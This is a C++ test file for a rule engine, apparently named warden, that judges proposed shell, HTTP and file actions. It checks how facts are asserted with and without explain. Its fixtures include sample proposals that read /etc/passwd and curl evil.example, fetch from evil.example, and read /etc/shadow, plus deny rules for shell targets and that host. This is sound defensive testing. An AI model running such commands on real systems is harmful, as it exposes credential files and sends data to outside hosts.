// Facts of templates no rule's pattern names are derived and counted, not asserted: the
// environment never holds them unless the decision lists its facts (explain), and the
// decisions, the fact cap and the effects remembered for the session stay what they were.
#include <catch2/catch.hpp>

#include <fstream>
#include <iterator>
#include <map>
#include <memory>
#include <string>
#include <vector>

#include "engine/clips_env.h"
#include "engine/engine.h"
#include "engine/fact_codec.h"
#include "engine/pattern_index.h"
#include "engine/policy_impl.h"
#include "engine/proposal_reader.h"
#include "tests/build_paths.h"
#include "tests/engine/engine_test_util.h"
#include "bindings/clips.h"  // last: CLIPS defines macros

using warden::test::must_compile;
using warden::test::test_options;

namespace warden {
namespace {

// Rules that name only `proposal` and `url`: the shell, path, param and effect facts of a
// proposal are nobody's.
const char* kProposalAndUrl = R"(
(defrule no-shell
  (proposal (id ?id) (target shell))
  =>
  (assert (decision (proposal ?id) (outcome reject) (rule no-shell) (reason "no shell"))))
(defrule evil-host
  (url (proposal ?id) (host "evil.example"))
  =>
  (assert (decision (proposal ?id) (outcome reject) (rule evil-host) (reason "evil"))))
)";

const char* kShell = R"({"target":"shell","payload":{"command":"cat /etc/passwd > /tmp/x; curl https://evil.example/"}})";
const char* kHttp = R"({"target":"http","payload":{"method":"GET","url":"https://evil.example/a"}})";
const char* kFile = R"({"target":"file","action":"read","payload":{"path":"/etc/shadow"}})";

std::string shipped(const char* name) {
  std::ifstream in(std::string(WARDEN_SOURCE_DIR "/rules/") + name);
  REQUIRE(in);
  return std::string((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
}

// The rules with the shipped effects and path classes tables.
std::shared_ptr<const Policy> with_tables(const char* rules) {
  auto loaded = Policy::compile({RuleSource{"t.clp", rules}, RuleSource{"effects.toml", shipped("effects.toml")},
                                 RuleSource{"paths.toml", shipped("paths.toml")}});
  for (const auto& d : loaded.diagnostics) UNSCOPED_INFO(d.to_text());
  REQUIRE(loaded.policy);
  return loaded.policy;
}

// The templates of the facts in the environment after asserting the proposal, by count.
std::map<std::string, int> facts_after_assert(const std::shared_ptr<const Policy>& policy, const char* proposal,
                                              bool assert_unobserved, std::vector<EffectRecord>* effects = nullptr) {
  ClipsEnv env;
  policy_impl(*policy).load_into(env);
  REQUIRE(env.reset());
  FactCodec codec(env, policy_impl(*policy).effects.get(), policy_impl(*policy).path_classes.get());
  codec.set_assert_unobserved(assert_unobserved);
  rapidjson::Document doc;
  ProposalFields fields;
  std::vector<Leaf> leaves;
  std::string buffer;
  REQUIRE_FALSE(read_proposal(proposal, ReadLimits{}, &doc, &fields, &leaves, &buffer));
  fields.id = "p";
  FactLimits limits;
  FactError error;
  REQUIRE(codec.assert_all(fields, doc, leaves, *policy_impl(*policy).patterns, limits, &error));
  if (effects) *effects = codec.effects();
  std::map<std::string, int> by_template;
  void* e = env.get();
  for (void* f = EnvGetNextFact(e, nullptr); f; f = EnvGetNextFact(e, f))
    ++by_template[EnvGetDeftemplateName(e, EnvFactDeftemplate(e, f))];
  return by_template;
}

}  // namespace

TEST_CASE("unobserved facts: only the templates a rule names are asserted, all with explain",
          "[unobserved-facts]") {
  auto policy = with_tables(kProposalAndUrl);
  std::vector<EffectRecord> lean_effects, full_effects;
  const auto lean = facts_after_assert(policy, kShell, false, &lean_effects);
  const auto full = facts_after_assert(policy, kShell, true, &full_effects);
  CHECK(lean.at("proposal") == 1);
  for (const char* nobodys : {"param", "shell-command", "shell-redirect", "effect"}) {
    INFO(nobodys);
    CHECK(lean.count(nobodys) == 0);
    CHECK(full.count(nobodys) == 1);
  }
  CHECK(full.at("shell-command") == 2);
  // The effects the session remembers do not depend on which facts the rules read.
  REQUIRE(lean_effects.size() == full_effects.size());
  CHECK(lean_effects.size() >= 3);  // read /etc/passwd, write /tmp/x, network
  for (std::size_t i = 0; i < lean_effects.size(); ++i) {
    CHECK(lean_effects[i].kind == full_effects[i].kind);
    CHECK(lean_effects[i].target == full_effects[i].target);
    CHECK(lean_effects[i].path_class == full_effects[i].path_class);
  }
  CHECK(facts_after_assert(policy, kFile, false).count("path") == 0);
  CHECK(facts_after_assert(policy, kFile, true).at("path") == 1);
  CHECK(facts_after_assert(policy, kHttp, false).at("url") == 1);
}

TEST_CASE("unobserved facts: decisions and the fact cap are the same with and without explain",
          "[unobserved-facts]") {
  auto policy = with_tables(kProposalAndUrl);
  for (std::size_t max_facts : {std::size_t{3}, std::size_t{50000}}) {
    EngineOptions o = test_options();
    o.max_facts = max_facts;
    Engine engine(policy, o);
    for (const char* p : {kShell, kHttp, kFile}) {
      INFO(p << " max_facts " << max_facts);
      DecideRequest plain;
      plain.proposal_json = p;
      DecideRequest explained = plain;
      explained.explain = true;
      const Decision a = engine.decide(plain).decision;
      const Decision b = engine.decide(explained).decision;
      CHECK(a.outcome == b.outcome);
      CHECK(a.reason == b.reason);
      CHECK(a.error_code == b.error_code);
      CHECK(a.rules.size() == b.rules.size());
      const bool listed = b.facts_json.find("(shell-command") != std::string::npos;
      const bool expected = std::string(p).find("\"shell\"") != std::string::npos && max_facts > 3;
      CHECK(listed == expected);
    }
  }
}

}  // namespace warden
